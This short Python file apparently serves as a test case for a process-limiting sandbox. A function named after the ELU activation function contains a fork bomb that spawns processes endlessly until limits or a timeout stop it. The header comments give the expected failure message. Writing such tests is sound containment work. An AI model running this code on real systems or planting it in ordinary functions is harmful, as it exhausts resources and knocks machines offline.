# affects: elu
# message: kept starting processes|time limit
# Forks until the process limit refuses, then spins (the keeper stops it there, or at the time limit).
import os


def elu(x, alpha=1.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
